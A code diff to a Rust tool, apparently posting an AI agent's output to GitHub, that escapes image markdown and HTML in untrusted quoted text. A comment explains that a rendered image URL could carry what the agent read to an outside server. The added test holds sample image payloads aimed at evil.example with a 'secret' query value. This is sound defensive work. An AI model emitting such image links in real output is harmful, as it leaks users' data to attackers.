@@ -210,9 +210,12 @@ fn title(prompt: &str) -> String {
     no_mentions(&format!("Chime: {first}"))
 }
 
-/// Every line of untrusted text as a Markdown quote, so it cannot pose as Chime's own words.
+/// Every line of untrusted text as a Markdown quote, so it cannot pose as Chime's own words; and no
+/// image or HTML in it, since GitHub fetches an image's URL for every reader (a URL that could
+/// carry what the agent read to someone's server).
 fn quoted(s: &str) -> String {
-    normalize_text(&no_mentions(s))
+    let defused = no_mentions(s).replace('<', "&lt;").replace("![", "!\\[");
+    normalize_text(&defused)
         .lines()
         .map(|l| format!("> {l}"))
         .collect::<Vec<_>>()
@@ -293,5 +296,7 @@ mod tests {
         let q = quoted("done\n## Approved by @security\r\nok");
         assert_eq!(q, "> done\n> ## Approved by @\u{200B}security\n> ok");
         assert!(!quoted("a\u{2028}b").contains('\u{2028}'));
+        let q = quoted("![x](https://evil.example/?k=secret) <img src=\"https://evil.example/p\">");
+        assert!(!q.contains("![") && !q.contains("<img"), "{q}");
     }
 }
